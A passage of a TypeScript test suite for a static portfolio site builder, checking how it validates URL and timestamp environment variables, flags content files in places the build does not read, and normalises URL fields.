      const fine = await check({ SITE_URL: "https://fixture.example.com" });
      expect([fine.code, fine.stdout]).toEqual([0, expect.stringContaining("content/ is valid")]);
      // The check is the build with writing turned off: what the build warns of once content is
      // read and the site made, the check says too (before 2026-11-29 it did not run that far).
      const both = await check({ URL: "https://deploy.example.com", SITE_URL: "https://fixture.example.com" });
      expect([both.code, both.stderr]).toEqual([0, expect.stringContaining("SITE_URL: 'https://fixture.example.com' is not used")]);
      expect(existsSync(path.join(work, "dist"))).toBe(false);
    } finally {
      await rm(work, { recursive: true, force: true });
    }
  });
});

describe("build settings from the environment", () => {
  it.each<[NodeJS.ProcessEnv, string]>([
    [{ SITE_URL: "https://fixture.example.com/portfolio" }, `SITE_URL: 'https://fixture.example.com/portfolio': ${ORIGIN} (fix or unset the SITE_URL environment variable)`],
    [{ SITE_URL: "https://fixture.example.com/?preview=1" }, `SITE_URL: 'https://fixture.example.com/?preview=1': ${ORIGIN} (fix or unset the SITE_URL environment variable)`],
    [{ SITE_URL: "https://ada:secret@fixture.example.com" }, "SITE_URL: 'https://ada:secret@fixture.example.com': must not contain a user name or password (fix or unset the SITE_URL environment variable)"],
    [{ URL: "not a url", SITE_URL: "https://fine.example.com" }, "URL: 'not a url': expected an absolute http(s) URL (fix or unset the URL environment variable)"],
    [{ SITE_URL: "ftp://fixture.example.com" }, "SITE_URL: 'ftp://fixture.example.com': expected an absolute http(s) URL (fix or unset the SITE_URL environment variable)"],
    // The same rule as baseUrl in site.json: a domain, written as the URL parser spells it.
    // Each an absolute http(s) URL: the message names the host that is refused, and why.
    [{ SITE_URL: "https://exa_mple.com" }, "SITE_URL: 'https://exa_mple.com': the host 'exa_mple.com' is not a domain name such as example.com (fix or unset the SITE_URL environment variable)"],
    [{ SITE_URL: "https://10.0.0.7" }, "SITE_URL: 'https://10.0.0.7': the host '10.0.0.7' is an IP address; expected a domain name such as example.com (fix or unset the SITE_URL environment variable)"],
    [{ URL: "https://127.0.0.1" }, `URL: 'https://127.0.0.1': the host '127.0.0.1' ${THIS_COMPUTER} (URL ${LOCAL_RUN})`],
    [{ SITE_URL: "https://localhost:8888" }, `SITE_URL: 'https://localhost:8888': the host 'localhost' ${THIS_COMPUTER} (SITE_URL ${LOCAL_RUN})`],
    [{ SITE_URL: "http://localhost:8888" }, `SITE_URL: 'http://localhost:8888': the host 'localhost' ${THIS_COMPUTER} (SITE_URL ${LOCAL_RUN})`],
    [{ SITE_URL: "https://fixture.example.com:99999" }, "SITE_URL: 'https://fixture.example.com:99999': the port 99999 is out of range: a port is a number up to 65535 (fix or unset the SITE_URL environment variable)"],
    [{ SITE_URL: "https://fixture.example.com:8o80" }, "SITE_URL: 'https://fixture.example.com:8o80': the port '8o80' is not a number (fix or unset the SITE_URL environment variable)"],
    [{ SITE_URL: "https://fixture.example.com\\" }, "SITE_URL: 'https://fixture.example.com\\': contains a space or a character URLs do not allow; percent-encode it or remove it (fix or unset the SITE_URL environment variable)"],
    [{ URL: "https://fixture.example.com\u001b[2J" }, "URL: 'https://fixture.example.com\\u001b[2J': expected an absolute http(s) URL (fix or unset the URL environment variable)"],
    [{ SITE_URL: "https://fixture.example.com/%2e%2e" }, `SITE_URL: 'https://fixture.example.com/%2e%2e': does not stay as written: a URL parser reads it as 'https://fixture.example.com/' (fix or unset the SITE_URL environment variable)`],
    [{ SOURCE_DATE_EPOCH: "yesterday" }, "SOURCE_DATE_EPOCH: 'yesterday' is not whole seconds since 1970 (unset it, or set it to e.g. $(git log -1 --format=%ct))"],
    // One second past 9999-12-31T23:59:59Z: a timestamp of six year digits, which no answer may hold.
    [{ SOURCE_DATE_EPOCH: "253402300800" }, "SOURCE_DATE_EPOCH: '253402300800' is after the year 9999 (unset it, or set it to e.g. $(git log -1 --format=%ct))"],
  ])("names the variable, not content/, for %o", async (env, expected) => {
    const work = await makeWorkDir();
    try {
      const result = await buildSite({ contentDir: path.join(work, "content"), outDir: path.join(work, "dist"), indexModule: false, env: { ...ENV, ...env } });
      expect(result.ok ? [] : result.problems.map(formatProblem)).toEqual([expected]);
    } finally {
      await rm(work, { recursive: true, force: true });
    }
  });

  it("takes a domain in any script, whose top-level domain the parser spells in punycode (.рф is .xn--p1ai)", async () => {
    for (const [env, baseUrl] of [
      [{ URL: "https://xn--e1afmkfd.xn--p1ai" }, "https://xn--e1afmkfd.xn--p1ai"],
      [{ SITE_URL: "https://пример.рф" }, "https://xn--e1afmkfd.xn--p1ai"],
      [{ SITE_URL: "https://例子.中国" }, "https://xn--fsqu00a.xn--fiqs8s"],
    ] as const) {
      const work = await makeWorkDir();
      try {
        const result = await buildSite({ contentDir: path.join(work, "content"), outDir: path.join(work, "dist"), indexModule: false, env: { ...ENV, ...env } });
        expect(result.ok ? result.index.site.baseUrl : result.problems.map(formatProblem), JSON.stringify(env)).toBe(baseUrl);
      } finally {
        await rm(work, { recursive: true, force: true });
      }
    }
  });

  it("lists a bad variable together with the content's problems", async () => {
    const work = await makeWorkDir();
    try {
      const content = await applyCase(work, "bad-email");
      const result = await buildSite({ contentDir: content, outDir: path.join(work, "dist"), indexModule: false, contentLabel: "content", env: { ...ENV, URL: "https://x.example.com/sub" } });
      expect(result.ok ? [] : result.problems.map((p) => p.source)).toEqual(["content/profile.json", "URL"]);
    } finally {
      await rm(work, { recursive: true, force: true });
    }
  });
});

/** What the build reads: the spec's files, then the folder of each section the owner added (build/content/kinds.ts). */
const READABLE = ["site.json", "profile.json", "skills.json", "projects/*.json", ...SECTION_KINDS.map((kind) => ("folder" in kind.place ? `${kind.place.folder}/*.json` : kind.place.file))];
const READ_LIST = `the build reads ${READABLE.slice(0, -1).join(", ")} and ${READABLE.at(-1)} only`;

describe("files where the build does not read them", () => {
  // Each looks like content, so the site would deploy without it: each stops the build.
  it.each<[string, (content: string) => Promise<void>, string]>([
    [
      "a project file at the top of content/",
      (content) => writeFile(path.join(content, "gamma.json"), project("gamma")),
      `content/gamma.json: this file is not read by the build, so it would not be published (${READ_LIST}; if it is a project, move it to projects/gamma.json)`,
    ],
    [
      "a top-level file one slip from a content file",
      (content) => writeFile(path.join(content, "Skill.json"), "{}"),
      "content/Skill.json: this file is not read by the build, so it would not be published (rename it to skills.json)",
    ],
    [
      "a project in content/project/",
      async (content) => {
        await mkdir(path.join(content, "project"));
        await writeFile(path.join(content, "project", "gamma.json"), project("gamma"));
      },
      "content/project/: this folder is not read by the build, so nothing in it would be published (rename it to projects/)",
    ],
    [
      "another folder such as case-studies/",
      async (content) => {
        await mkdir(path.join(content, "case-studies"));
        await writeFile(path.join(content, "case-studies", "alpha.json"), "{}");
      },
      `content/case-studies/: this folder is not read by the build, so nothing in it would be published (${READ_LIST}; move its files there, or the folder out of content/; a new section's folder needs its kind in build/content/kinds.ts)`,
    ],
    [
      "a project in a folder nested under projects/",
      async (content) => {
        await mkdir(path.join(content, "projects", "drafts"));
        await writeFile(path.join(content, "projects", "drafts", "gamma.json"), project("gamma"));
      },
      "content/projects/drafts/: folders inside a content folder are not read, so nothing in it would be published (move its files up into projects/, one <slug>.json each, or the folder out of content/)",
    ],
    [
      "a folder under projects/ named as a file (gamma.json/)",
      async (content) => {
        await mkdir(path.join(content, "projects", "gamma.json"));
        await writeFile(path.join(content, "projects", "gamma.json", "gamma.json"), project("gamma"));
      },
      "content/projects/gamma.json/: folders inside a content folder are not read, so nothing in it would be published (move its files up into projects/, one <slug>.json each, or the folder out of content/)",
    ],
    [
      "a project file named .JSON whose lowercase name another file has",
      (content) => writeFile(path.join(content, "projects", "Alpha!.JSON"), project("alpha")),
      "content/projects/Alpha!.JSON: the extension '.JSON' is not read, only lowercase .json (alpha.json exists: delete this file if it is a copy, or rename it to alpha-2.json)",
    ],
    [
      "a project file named .JSON",
      (content) => writeFile(path.join(content, "projects", "Gamma.JSON"), project("gamma")),
      "content/projects/Gamma.JSON: the extension '.JSON' is not read, only lowercase .json (rename it to gamma.json)",
    ],
  ])("stops the build for %s, naming the file and the fix", async (_name, misplace, expected) => {
    const work = await makeWorkDir();
    try {
      const content = await applyCase(work, undefined);
      await misplace(content);
      const result = await buildSite({ contentDir: content, outDir: path.join(work, "dist"), indexModule: false, contentLabel: "content", env: ENV });
      expect(result.ok ? [] : result.problems.map(formatProblem)).toEqual([expected]);
      expect(result.warnings).toEqual([]);
    } finally {
      await rm(work, { recursive: true, force: true });
    }
  });

  it("only warns about what cannot be content or is parked with a dot, and says nothing of OS litter or editors' scratch files", async () => {
    const work = await makeWorkDir();
    try {
      const content = await applyCase(work, undefined);
      await writeFile(path.join(content, "README.md"), "notes");
      await mkdir(path.join(content, ".drafts"));
      await writeFile(path.join(content, ".drafts", "gamma.json"), project("gamma"));
      await writeFile(path.join(content, "projects", ".hidden.json"), "{}");
      await writeFile(path.join(content, "projects", "notes.md"), "draft");
      for (const litter of [".DS_Store", "Thumbs.db", "desktop.ini", ".gitkeep", "Icon\r", "._alpha.json"]) await writeFile(path.join(content, "projects", litter), "");
      await writeFile(path.join(content, ".DS_Store"), "");
      // What a zip made on a Mac unpacks beside the content: its metadata folder of AppleDouble files.
      await mkdir(path.join(content, "__MACOSX", "projects"), { recursive: true });
      await writeFile(path.join(content, "__MACOSX", "projects", "._alpha.json"), "");
      await writeFile(path.join(content, "._site.json"), "");
      // What an editor keeps beside an open file (vim's swap file, a backup) while npm run dev rebuilds.
      for (const scratch of [".alpha.json.swp", "alpha.json~", "4913"]) await writeFile(path.join(content, "projects", scratch), "");
      const result = await buildSite({ contentDir: content, outDir: path.join(work, "dist"), indexModule: false, contentLabel: "content", env: ENV });
      expect(result.ok ? [] : result.problems.map(formatProblem)).toEqual([]);
      expect(result.warnings.map(formatProblem)).toEqual([
        "content/.drafts/: not read by the build (names starting with a dot are skipped)",
        `content/README.md: not read by the build (${READ_LIST})`,
        "content/projects/.hidden.json: not read by the build (names starting with a dot are skipped)",
        "content/projects/notes.md: not read by the build (only files ending in .json are read)",
      ]);
    } finally {
      await rm(work, { recursive: true, force: true });
    }
  });
});


describe("content that looks odd but builds", () => {
  it.each<[string, (content: string) => Promise<void>]>([
    [
      "a UTF-8 byte-order mark on every file",
      async (content) => {
        for (const file of ["site.json", "profile.json", "skills.json", "projects/alpha.json", "projects/beta.json"]) {
          const text = await readFile(path.join(content, file), "utf8");
          await writeFile(path.join(content, file), `\uFEFF${text}`);
        }
      },
    ],
    [
      "line breaks and tabs in prose, and a right-to-left mark in a name",
      async (content) => {
        const file = path.join(content, "profile.json");
        const profile = JSON.parse(await readFile(file, "utf8")) as Record<string, unknown>;
        await writeFile(file, JSON.stringify({ ...profile, name: "Ada \u200fFixture", bio: "Line one.\nLine two,\tindented.", detail: "A\n\nparagraph." }));
      },
    ],
  ])("accepts %s", async (_name, prepare) => {
    const work = await makeWorkDir();
    try {
      const content = await applyCase(work, undefined);
      await prepare(content);
      const result = await buildSite({ contentDir: content, outDir: path.join(work, "dist"), indexModule: false, contentLabel: "content", env: ENV });
      expect(result.ok ? [] : result.problems.map(formatProblem)).toEqual([]);
    } finally {
      await rm(work, { recursive: true, force: true });
    }
  });
});

describe("URL fields", () => {
  it("store the URL parser's own spelling of what was written", async () => {
    const work = await makeWorkDir();
    try {
      const content = await applyCase(work, undefined);
      const links = { live: "HTTPS://Beta.Example.COM", github: "https://github.com/ada/çay-evi?tab=readme#top", caseStudy: "https://beta.example.com:443/case" };
      await writeFile(path.join(content, "projects", "beta.json"), project("beta", `, "links": ${JSON.stringify(links)}`).replace(', "links": {}', ""));
      const result = await buildSite({ contentDir: content, outDir: path.join(work, "dist"), indexModule: false, contentLabel: "content", env: ENV });
      if (!result.ok) throw new Error(result.problems.map(formatProblem).join("\n"));
      expect(result.index.projects.find((p) => p.slug === "beta")?.links).toEqual({
        live: "https://beta.example.com/",
        github: "https://github.com/ada/%C3%A7ay-evi?tab=readme#top",
        caseStudy: "https://beta.example.com/case",
      });
    } finally {
      await rm(work, { recursive: true, force: true });
    }
  });
});
